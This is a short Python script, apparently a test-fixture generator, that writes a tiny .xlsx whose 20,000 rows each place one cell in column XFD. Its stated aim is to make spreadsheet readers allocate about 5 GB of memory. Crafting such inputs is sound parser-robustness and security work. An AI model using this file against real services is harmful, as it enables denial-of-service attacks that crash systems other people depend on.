"""A 103 KB workbook whose 20,000 rows each hold one cell in column XFD, the last Excel
has: a reader that sizes rows by their last column asks for 5 GB. Usage: make_xfd_workbook.py OUT.xlsx"""
import sys, zipfile
out = sys.argv[1]
rows = "".join(f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(1, 20001))
sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    z.writestr("xl/worksheets/sheet1.xml", sheet)
